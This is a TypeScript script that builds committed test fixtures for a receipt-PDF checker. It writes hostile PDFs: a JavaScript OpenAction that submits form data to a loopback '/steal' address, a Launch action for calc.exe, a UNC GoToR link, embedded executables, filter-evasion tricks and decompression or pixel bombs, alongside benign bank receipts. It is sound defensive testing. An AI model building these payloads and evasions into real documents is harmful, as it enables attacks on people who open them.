// Writes tests/fixtures/receipts/ (decision 061): PDFs that try to carry active content past a
// reader, and ordinary receipts made by the tools banks and phones use. The files are committed;
// this says how each was made, and makes them again (`npx tsx scripts/make-receipt-fixtures.ts`)
// on a machine with qpdf, Ghostscript, Chromium and LibreOffice (Debian: qpdf ghostscript chromium
// libreoffice-writer-nogui). A tool that is missing is said, and its files are left as they are.
import { execFileSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import PDFDocument from "pdfkit";
import sharp from "sharp";

const OUT = path.resolve(import.meta.dirname, "../tests/fixtures/receipts");
const work = mkdtempSync(path.join(tmpdir(), "receipt-fixtures-"));

/** A PDF from numbered object bodies (object 1 is the catalog), with a correct xref table. */
function pdf(objects: string[], extraTrailer = ""): Buffer {
  let body = "%PDF-1.7\n%\xe2\xe3\xcf\xd3\n";
  const offsets: number[] = [];
  objects.forEach((object, i) => {
    offsets.push(Buffer.byteLength(body, "latin1"));
    body += `${i + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xref = Buffer.byteLength(body, "latin1");
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets) body += `${String(offset).padStart(10, "0")} 00000 n \n`;
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${extraTrailer}>>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, "latin1");
}

const stream = (dict: string, data: string) =>
  `<< ${dict} /Length ${Buffer.byteLength(data, "latin1")} >>\nstream\n${data}\nendstream`;
const TEXT = "BT /F1 18 Tf 40 100 Td (Transferencia S/ 50.00) Tj ET";
const FONT = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>";

/** Catalog extras, page extras and more objects (numbered from 5) around one page of text. */
function onePage(catalog: string, page = "", more: string[] = []): Buffer {
  return pdf([
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Resources << /Font << /F1 ${FONT} >> >> /Contents 4 0 R ${page} >>`,
    stream("", TEXT),
    ...more,
  ]);
}

const hex = (text: string) => Buffer.from(text, "latin1").toString("hex").toUpperCase();
const JS = "app.alert('pwned'); this.submitForm('http://127.0.0.1:9/steal');";
const write = (name: string, data: Buffer) => writeFileSync(path.join(OUT, name), data);
const tool = (command: string, args: string[]) => {
  try {
    execFileSync(command, args, { stdio: "pipe", timeout: 120_000 });
    return true;
  } catch (error) {
    console.error(`${command} failed or is missing:`, (error as Error).message.split("\n")[0]);
    return false;
  }
};

// The evasions decision 061 names: names written with #xx escapes, a script in a hex-encoded
// stream, a script inside an object stream, and more.
write("hostile-js-hex-name.pdf", onePage(`/OpenAction << /S /J#61vaScript /J#53 (${JS}) >>`));
write("hostile-launch-hex-name.pdf", onePage("/OpenAction << /S /L#61unch /F (calc.exe) >>"));
write(
  "hostile-embedded-hex-name.pdf",
  onePage("/Names << /#45mbeddedFiles << /Names [(a.exe) 5 0 R] >> >>", "", [
    "<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>",
    stream("/Type /EmbeddedFile", "MZ not really a program"),
  ]),
);
write(
  "hostile-js-asciihex-stream.pdf",
  onePage("/OpenAction << /S /JavaScript /JS 5 0 R >>", "", [
    stream("/Filter /ASCIIHexDecode", `${hex(JS)}>`),
  ]),
);
write("hostile-openaction-js.pdf", onePage(`/OpenAction << /S /JavaScript /JS (${JS}) >>`));
write("hostile-aa.pdf", onePage("", `/AA << /O << /S /JavaScript /JS (${JS}) >> >>`));
const link = (action: string) =>
  `<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /Border [0 0 0] /A ${action} >>`;
write(
  "hostile-uri.pdf",
  onePage("", "/Annots [5 0 R]", [link("<< /S /URI /URI (http://127.0.0.1:9/track) >>")]),
);
write(
  "hostile-gotor.pdf",
  onePage("", "/Annots [5 0 R]", [
    link("<< /S /GoToR /F (\\\\\\\\127.0.0.1\\\\share\\\\x.pdf) /D [0 /Fit] >>"),
  ]),
);
write(
  "hostile-submitform.pdf",
  onePage("/AcroForm << /Fields [5 0 R] >>", "/Annots [5 0 R]", [
    "<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (enviar) /Rect [0 0 300 200] /P 3 0 R /A << /S /SubmitForm /F << /FS /URL /F (http://127.0.0.1:9/) >> >> >>",
  ]),
);
write(
  "hostile-richmedia.pdf",
  onePage("", "/Annots [5 0 R]", [
    "<< /Type /Annot /Subtype /RichMedia /Rect [0 0 300 200] /RichMediaContent << /Assets << /Names [(a.swf) 6 0 R] >> >> >>",
    "<< /Type /Filespec /F (a.swf) /EF << /F 7 0 R >> >>",
    stream("/Type /EmbeddedFile", "FWS not really flash"),
  ]),
);
write(
  "hostile-xfa.pdf",
  onePage("/AcroForm << /Fields [] /XFA 5 0 R /NeedsRendering true >>", "", [
    stream(
      "",
      `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script contentType="application/x-javascript">${JS}</script></event></subform></template></xdp:xdp>`,
    ),
  ]),
);
// An incremental update: a plain page, then a new catalog with a script appended after %%EOF.
{
  const base = onePage("");
  const start = base.length;
  const update = `1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>\nendobj\n5 0 obj\n<< /S /JavaScript /JS (${JS}) >>\nendobj\n`;
  const second = start + Buffer.byteLength(update.slice(0, update.indexOf("5 0 obj")), "latin1");
  const xref = start + Buffer.byteLength(update, "latin1");
  const firstXref = base.toString("latin1").match(/startxref\n(\d+)/)![1];
  const tail =
    `xref\n0 2\n0000000000 65535 f \n${String(start).padStart(10, "0")} 00000 n \n5 1\n${String(second).padStart(10, "0")} 00000 n \n` +
    `trailer\n<< /Size 6 /Root 1 0 R /Prev ${firstXref} >>\nstartxref\n${xref}\n%%EOF\n`;
  write("hostile-incremental-js.pdf", Buffer.concat([base, Buffer.from(update + tail, "latin1")]));
}
// Every offset in the table is wrong: readers rebuild it by scanning, and the script is found.
write(
  "hostile-broken-xref.pdf",
  Buffer.from(
    onePage(`/OpenAction << /S /JavaScript /JS (${JS}) >>`)
      .toString("latin1")
      .replace(/(\d{10}) 00000 n/g, "0000000007 00000 n")
      .replace(/startxref\n\d+/, "startxref\n999999"),
    "latin1",
  ),
);
// Cut in the middle: nothing to draw.
write("hostile-truncated.pdf", onePage("").subarray(0, 200));
// A page 200 inches square with a user unit of 75000: a pixel bomb for a reader that trusts it.
write(
  "hostile-huge-page.pdf",
  pdf([
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 14400 14400] /UserUnit 75000 /Resources << /Font << /F1 ${FONT} >> >> /Contents 4 0 R >>`,
    stream("", TEXT),
  ]),
);
// An image said to be 20000 × 20000 pixels, its zeros compressed to a few kilobytes.
{
  const { deflateSync } = await import("node:zlib");
  const side = 20000;
  const row = Buffer.alloc(side / 8);
  const chunks = [];
  for (let y = 0; y < side; y++) chunks.push(row);
  const packed = deflateSync(Buffer.concat(chunks), { level: 9 });
  const head = `<< /Type /XObject /Subtype /Image /Width ${side} /Height ${side} /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`;
  const objects = [
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Resources << /XObject << /Im 5 0 R >> >> /Contents 4 0 R >>",
    stream("", "q 300 0 0 200 0 0 cm /Im Do Q"),
  ];
  const text = pdf([...objects, "IMAGE"]).toString("latin1");
  const [before, after] = text.split("IMAGE");
  const joined = Buffer.concat([
    Buffer.from(before!, "latin1"),
    Buffer.from(head, "latin1"),
    packed,
    Buffer.from("\nendstream", "latin1"),
    Buffer.from(after!, "latin1"),
  ]);
  // The xref offsets after the image are now wrong: qpdf writes the file again, correct.
  const raw = path.join(work, "bomb.pdf");
  writeFileSync(raw, joined);
  if (tool("qpdf", ["--warning-exit-0", raw, path.join(OUT, "hostile-image-bomb.pdf")])) {
    console.log("hostile-image-bomb.pdf");
  }
}
// Arrays nested 5000 deep, for a reader that follows them by recursion.
write(
  "hostile-deep-nesting.pdf",
  onePage("/Deep 5 0 R", "", ["[".repeat(5000) + "]".repeat(5000)]),
);
// 3000 pages, written with object streams so the file stays small.
{
  const pages = 3000;
  const objects = [
    "<< /Type /Catalog /Pages 2 0 R >>",
    `<< /Type /Pages /Kids [${Array.from({ length: pages }, (_, i) => `${i + 4} 0 R`).join(" ")}] /Count ${pages} >>`,
    stream("", TEXT),
    ...Array.from(
      { length: pages },
      () =>
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Resources << /Font << /F1 ${FONT} >> >> /Contents 3 0 R >>`,
    ),
  ];
  const raw = path.join(work, "many.pdf");
  writeFileSync(raw, pdf(objects));
  tool("qpdf", [
    "--object-streams=generate",
    "--compress-streams=y",
    raw,
    path.join(OUT, "hostile-many-pages.pdf"),
  ]);
}
// The script of hostile-openaction-js.pdf with the catalog and the action inside an object stream.
tool("qpdf", [
  "--object-streams=generate",
  path.join(OUT, "hostile-openaction-js.pdf"),
  path.join(OUT, "hostile-js-in-object-stream.pdf"),
]);
// Encrypted with a password to open: nothing can be drawn without it.
tool("qpdf", [
  "--encrypt",
  "clave-del-usuario",
  "clave-del-dueno",
  "256",
  "--",
  path.join(OUT, "hostile-openaction-js.pdf"),
  path.join(OUT, "hostile-encrypted.pdf"),
]);

// Ordinary receipts.
async function pdfkitReceipt(size: [number, number] | "A4"): Promise<Buffer> {
  const doc = new PDFDocument({ size, margin: 24, compress: true });
  const chunks: Buffer[] = [];
  doc.on("data", (c: Buffer) => chunks.push(c));
  const done = new Promise((resolve) => doc.on("end", resolve));
  // An embedded, compressed (subset) TrueType font, as bank statements carry.
  doc.font("/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf").fontSize(14);
  doc.text("Banco de Prueba — Comprobante de transferencia");
  doc.fontSize(11).text("Monto: Bs 150,00\nGlosa: AYL-7Q2K\nFecha: 03/05/2025 10:42");
  const logo = await sharp({
    create: { width: 64, height: 64, channels: 3, background: { r: 20, g: 90, b: 160 } },
  })
    .jpeg()
    .toBuffer();
  doc.image(logo, { width: 48 });
  doc.end();
  await done;
  return Buffer.concat(chunks);
}
write("benign-pdfkit.pdf", await pdfkitReceipt("A4"));
// A phone banking app's receipt: a narrow page, like a thermal printer's roll.
write("benign-phone-narrow.pdf", await pdfkitReceipt([226, 420]));
tool("qpdf", [
  "--object-streams=generate",
  path.join(OUT, "benign-pdfkit.pdf"),
  path.join(OUT, "benign-object-streams.pdf"),
]);
// Only an owner password (no printing changes, say): opens without one, as many banks' PDFs do.
tool("qpdf", [
  "--encrypt",
  "",
  "clave-del-banco",
  "256",
  "--modify=none",
  "--",
  path.join(OUT, "benign-pdfkit.pdf"),
  path.join(OUT, "benign-owner-password.pdf"),
]);
// A scanned page: a photo of paper, put into a PDF by Ghostscript.
{
  const photo = path.join(work, "scan.jpg");
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="600" height="400"><rect width="600" height="400" fill="#f3efe6"/><text x="30" y="80" font-size="34" font-family="DejaVu Sans">Comprobante de depósito</text><text x="30" y="150" font-size="28" font-family="DejaVu Sans">Bs 150,00 — AYL-7Q2K</text></svg>`;
  writeFileSync(photo, await sharp(Buffer.from(svg)).grayscale().jpeg({ quality: 40 }).toBuffer());
  const gsLib = execFileSync("gs", ["--version"]).toString().trim();
  tool("gs", [
    "-q",
    "-dNOSAFER",
    "-sDEVICE=pdfwrite",
    "-dDEVICEWIDTHPOINTS=600",
    "-dDEVICEHEIGHTPOINTS=400",
    "-o",
    path.join(OUT, "benign-scanned.pdf"),
    `/usr/share/ghostscript/${gsLib}/lib/viewjpeg.ps`,
    "-c",
    `(${photo}) viewJPEG`,
  ]);
}
// Chromium's print to PDF: embedded subset fonts, compressed streams, an image.
{
  const html = path.join(work, "receipt.html");
  writeFileSync(
    html,
    `<!doctype html><meta charset="utf-8"><style>body{font-family:sans-serif;margin:2em}</style><h1>Comprobante</h1><p>Transferencia de <b>Bs 150,00</b></p><p>Glosa: <code>AYL-7Q2K</code></p><svg width="80" height="20"><rect width="80" height="20" fill="teal"/></svg>`,
  );
  tool("chromium", [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--no-pdf-header-footer",
    `--print-to-pdf=${path.join(OUT, "benign-chromium.pdf")}`,
    `file://${html}`,
  ]);
}
// LibreOffice Writer's export.
{
  const doc = path.join(work, "libreoffice.txt");
  writeFileSync(doc, "Comprobante de transferencia\nMonto: Bs 150,00\nGlosa: AYL-7Q2K\n");
  if (
    tool("soffice", [
      `-env:UserInstallation=file://${work}/lo-profile`,
      "--headless",
      "--convert-to",
      "pdf",
      "--outdir",
      work,
      doc,
    ])
  )
    writeFileSync(
      path.join(OUT, "benign-libreoffice.pdf"),
      readFileSync(path.join(work, "libreoffice.pdf")),
    );
}

rmSync(work, { recursive: true, force: true });
console.log(`Written to ${OUT}`);
